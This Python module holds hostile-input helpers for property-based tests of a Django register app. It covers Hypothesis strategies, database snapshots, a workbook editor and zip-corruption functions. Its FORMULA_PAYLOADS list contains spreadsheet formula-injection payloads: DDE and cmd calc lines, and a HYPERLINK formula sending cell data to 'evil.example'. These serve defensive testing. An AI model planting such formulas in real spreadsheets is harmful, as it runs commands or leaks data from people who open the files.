"""
Hostile input for the property-based tests: hypothesis strategies, a snapshot
of the register's tables, the POST data of an admin form, and a workbook that
is edited cell by cell.

Every property test runs each example inside ``rolled_back()``, so that an
example that does write (a valid input) leaves the next one the same database.
"""

import contextlib
import io
import os
import re
import struct
import zipfile

from django.apps import apps
from django.db import connection, transaction
from hypothesis import HealthCheck, Phase, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from ropa.core.spreadsheet import FORMULA_PREFIXES

REGISTER_APPS = ("controllers", "subjects", "ropa")

#: The settings every property test starts from. Deterministic, so that CI
#: runs the same examples every time; no example database (nothing is
#: written beside the code); no deadline, since database work varies; and
#: no shrinking: an example costs a round trip through a workbook and the
#: database, and shrinking a failure would take minutes. A failure is
#: reported as it was found.
HOSTILE = settings(
    max_examples=25,
    deadline=None,
    derandomize=True,
    database=None,
    phases=(Phase.explicit, Phase.reuse, Phase.generate),
    suppress_health_check=[
        # Each example cleans up after itself (``rolled_back``).
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.large_base_example,
        HealthCheck.data_too_large,
    ],
)

#: ``ROPA_HYPOTHESIS_SCALE=10 scripts/test tests/ropa/admin/test_hostile_forms.py``
#: runs ten times the examples each test names: the thorough run, for a change
#: to the importers or the forms. The suite's own counts keep CI fast.
SCALE = float(os.environ.get("ROPA_HYPOTHESIS_SCALE", "1"))


def examples(count):
    """``count`` examples, scaled by ``ROPA_HYPOTHESIS_SCALE``."""
    return max(1, round(count * SCALE))


# ---------------------------------------------------------------------------
# The database
# ---------------------------------------------------------------------------


def register_tables():
    """Every table of the register apps: models, their links and their history."""
    return [
        model
        for label in REGISTER_APPS
        for model in apps.get_app_config(label).get_models(include_auto_created=True)
    ]


def _is_history(model):
    return model.__name__.startswith("Historical")


def snapshot():
    """
    The register as it stands: the number of rows of every table (history and
    links included), and every value of the tables that are not history, so
    that an update in place shows as well as a new or deleted row.
    """
    state = {}
    for model in register_tables():
        label = model._meta.label
        state[f"{label} rows"] = model.objects.count()
        if not _is_history(model):
            state[label] = list(model.objects.order_by("pk").values_list())
    return state


@contextlib.contextmanager
def rolled_back():
    """Run the block in a transaction that is always rolled back."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


def integer_range():
    """The smallest and largest integer the database stores in an integer column."""
    return connection.ops.integer_field_range("PositiveIntegerField")


# ---------------------------------------------------------------------------
# Strategies
# ---------------------------------------------------------------------------

# Marks that turn text around or hide in it.
BIDI_MARKS = "\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u061c"
ODD_CHARACTERS = (
    "\u00a0\ufeff\u200b\u200d\u0301\u2028\u2029\u0085\ufffd\u0130\u00df\ufb01"
    "\U0001f600\U0001f469\U0001f3f3\ufe0f\u4e2d\u0627\u05d0\u00e9"
)
CONTROL_CHARACTERS = "".join(map(chr, range(32))) + "\x7f"
FORMULA_PAYLOADS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "SUM(A1:A9)",
    'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
)


def odd_characters():
    """Any character but a surrogate, with bidi marks and controls made likely."""
    return st.one_of(
        st.characters(codec="utf-8"),
        st.sampled_from(BIDI_MARKS + ODD_CHARACTERS + CONTROL_CHARACTERS),
    )


def odd_text(*, min_size=0, max_size=40):
    return st.text(alphabet=odd_characters(), min_size=min_size, max_size=max_size)


def formula_text():
    """Text a spreadsheet would run as a formula (OWASP "CSV injection")."""
    prefixes = (*FORMULA_PREFIXES, "==", "'=", "=+", "@@")
    return st.builds(
        str.__add__,
        st.sampled_from(prefixes),
        st.one_of(st.sampled_from(FORMULA_PAYLOADS), odd_text(max_size=20)),
    )


def control_text():
    """Text holding a control character: NUL, escape, bell, a lone carriage return."""
    return st.builds(
        lambda before, control, after: before + control + after,
        odd_text(max_size=10),
        st.sampled_from(CONTROL_CHARACTERS),
        odd_text(max_size=10),
    )


def huge_text(*, size=100_000):
    """About ``size`` characters: a short piece of odd text, repeated."""
    return st.builds(
        lambda piece, extra: (piece * (size // len(piece) + 1))[: size + extra],
        odd_text(min_size=1, max_size=8),
        st.integers(0, 1000),
    )


def hostile_text(*, huge=True):
    """Text no form or file should trust: formulas, controls, marks, huge."""
    strategies = [formula_text(), control_text(), odd_text(min_size=1)]
    if huge:
        strategies.append(huge_text())
    return st.one_of(strategies)


# XML 1.0 has no place for these: openpyxl refuses the controls, and writes
# U+FFFE and U+FFFF into a file no XML parser reads.
_NOT_IN_XML = re.compile(f"{ILLEGAL_CHARACTERS_RE.pattern}|[\ufffe\uffff]")


def xlsx_cell(value):
    """
    ``value`` as an XLSX cell can hold it: text loses the characters XML 1.0
    has no place for (the crafted-XML tests write those as character
    references); other values pass unchanged.
    """
    return _NOT_IN_XML.sub("", value) if isinstance(value, str) else value


def xlsx_text(strategy):
    """``strategy``, its text made fit for an XLSX cell (see ``xlsx_cell``)."""
    return strategy.map(xlsx_cell)


def whole_numbers():
    """Integers around and far beyond every limit a number column has."""
    return st.one_of(
        st.integers(-1000, 1000),
        st.sampled_from((0, -1, 1, 200, 201, 10**9, 2**31, 2**31 - 1, 2**63, 10**30)),
        st.integers(),
    )


def hostile_numbers():
    """What a number cell may hold: numbers of every kind, and text."""
    return st.one_of(
        whole_numbers(),
        st.floats(allow_nan=True, allow_infinity=True),
        st.booleans(),
        whole_numbers().map(str),
        whole_numbers().map(lambda number: f" {number} "),
        st.sampled_from(("1e3", "0x10", "1,5", "1.5", "3 years", "\u0663", "")),
        hostile_text(huge=False),
    )


def wrong_encodings():
    """A CSV-like register in an encoding no workbook is written in."""
    encodings = ("utf-16", "utf-16-le", "utf-32", "latin-1", "cp1252", "shift_jis")
    return st.builds(
        lambda rows, encoding: "\n".join(";".join(row) for row in rows).encode(
            encoding, "replace"
        ),
        st.lists(
            st.lists(odd_text(min_size=1, max_size=20), min_size=1, max_size=5),
            min_size=1,
            max_size=5,
        ),
        st.sampled_from(encodings),
    )


# ---------------------------------------------------------------------------
# Admin forms
# ---------------------------------------------------------------------------


def field_errors(response, name, *, prefix=None):
    """The errors the form on ``response`` shows for the field ``name``."""
    if prefix is None:
        return list(response.context["adminform"].form.errors.get(name, ()))
    for inline in response.context["inline_admin_formsets"]:
        formset = inline.formset
        if formset.prefix == prefix:
            return [
                error for form in formset.forms for error in form.errors.get(name, ())
            ] + [str(error) for error in formset.non_form_errors()]
    raise LookupError(prefix)


def all_errors(response):
    """Every error message the admin form on ``response`` shows."""
    context = response.context
    messages = [
        message
        for errors in context["adminform"].form.errors.values()
        for message in errors
    ]
    for inline in context["inline_admin_formsets"]:
        formset = inline.formset
        messages.extend(str(error) for error in formset.non_form_errors())
        for form in formset.forms:
            messages.extend(
                message for errors in form.errors.values() for message in errors
            )
    return messages


# ---------------------------------------------------------------------------
# Workbooks
# ---------------------------------------------------------------------------


class EditableWorkbook:
    """
    A workbook loaded once, edited and saved for one example, then put back
    as it was: loading the register's export for every example would cost
    more than the import under test.
    """

    def __init__(self, content, path):
        self.workbook = load_workbook(io.BytesIO(content))
        self.path = path

    def headers(self, sheet):
        return [cell.value for cell in self.workbook[sheet][1]]

    def column(self, sheet, header):
        """The column number (from 1) of ``header`` on ``sheet``."""
        return self.headers(sheet).index(header) + 1

    def value(self, sheet, row, header):
        return (
            self.workbook[sheet].cell(row=row, column=self.column(sheet, header)).value
        )

    def rows(self, sheet):
        """The data rows of ``sheet``: (row number, {header: value})."""
        headers = self.headers(sheet)
        return [
            (
                cells[0].row,
                dict(zip(headers, (cell.value for cell in cells), strict=False)),
            )
            for cells in self.workbook[sheet].iter_rows(min_row=2)
        ]

    @contextlib.contextmanager
    def edited(self, cells=None, *, appended=(), formulas=()):
        """
        Save the workbook with ``cells`` ({(sheet, row, header): value}) set
        as values, never as formulas, the cells in ``formulas`` set as
        formulas, and the rows ``appended`` ((sheet, {header: value})) added
        at the end of their sheet; yield its path, then undo every edit.
        """
        undo = []
        added = []
        try:
            for (sheet, row, header), value in (cells or {}).items():
                cell = self.workbook[sheet].cell(
                    row=row, column=self.column(sheet, header)
                )
                undo.append((cell, cell.value, cell.data_type))
                cell.value = value
                if isinstance(value, str):
                    # openpyxl takes text starting with "=" for a formula.
                    cell.data_type = "s"
            for sheet, row, header, formula in formulas:
                cell = self.workbook[sheet].cell(
                    row=row, column=self.column(sheet, header)
                )
                undo.append((cell, cell.value, cell.data_type))
                cell.value = formula
                cell.data_type = "f"
            for sheet, values in appended:
                worksheet = self.workbook[sheet]
                headers = self.headers(sheet)
                worksheet.append([values.get(header) for header in headers])
                for cell in worksheet[worksheet.max_row]:
                    if isinstance(cell.value, str):
                        cell.data_type = "s"
                added.append((worksheet, worksheet.max_row))
            self.workbook.save(self.path)
            yield self.path
        finally:
            for cell, value, data_type in reversed(undo):
                cell.value = value
                cell.data_type = data_type
            for worksheet, row in reversed(added):
                worksheet.delete_rows(row)


# ---------------------------------------------------------------------------
# Broken zip containers
# ---------------------------------------------------------------------------

_CENTRAL = b"PK\x01\x02"


def _headers_of(content, name):
    """The offsets of the central and local headers of the member ``name``."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        local = archive.getinfo(name).header_offset
    position = content.find(_CENTRAL)
    while position != -1:
        length = struct.unpack("<H", content[position + 28 : position + 30])[0]
        if content[position + 46 : position + 46 + length] == name.encode():
            return position, local
        position = content.find(_CENTRAL, position + 1)
    raise LookupError(name)


def damaged_member(content, name, *, offset=0, garbage=b"\xff" * 8):
    """``content`` with ``garbage`` written over the compressed data of ``name``."""
    damaged = bytearray(content)
    _, local = _headers_of(content, name)
    name_length, extra_length = struct.unpack("<HH", damaged[local + 26 : local + 30])
    start = local + 30 + name_length + extra_length + offset
    damaged[start : start + len(garbage)] = garbage
    return bytes(damaged)


def patched_member(content, name, *, flags=0, method=None, version=None):
    """
    ``content`` with the headers of ``name`` claiming what the file is not:
    more general-purpose ``flags`` (bit 0: encrypted), another compression
    ``method``, or a ``version`` needed to extract it.
    """
    patched = bytearray(content)
    central, local = _headers_of(content, name)
    for header, flag_at, method_at in ((central, 8, 10), (local, 6, 8)):
        (current,) = struct.unpack(
            "<H", patched[header + flag_at : header + flag_at + 2]
        )
        patched[header + flag_at : header + flag_at + 2] = struct.pack(
            "<H", current | flags
        )
        if method is not None:
            patched[header + method_at : header + method_at + 2] = struct.pack(
                "<H", method
            )
    if version is not None:
        patched[central + 6 : central + 8] = struct.pack("<H", version)
    return bytes(patched)


def with_member(content, name, data):
    """
    ``content`` with one more member whose file name is the bytes ``name``,
    flagged as UTF-8 (general-purpose bit 11), which ``name`` need not be.
    """
    placeholder = "m" * len(name)
    buffer = io.BytesIO(content)
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr(placeholder, data)
    patched = patched_member(buffer.getvalue(), placeholder, flags=0x800)
    central, local = _headers_of(patched, placeholder)
    patched = bytearray(patched)
    patched[central + 46 : central + 46 + len(name)] = name
    patched[local + 30 : local + 30 + len(name)] = name
    return bytes(patched)


def with_sheet_xml(content, member, xml):
    """``content`` with the XML of ``member`` replaced by ``xml``."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            data = xml.encode() if info.filename == member else source.read(info)
            target.writestr(info.filename, data)
    return buffer.getvalue()


def member_xml(content, member):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read(member).decode()
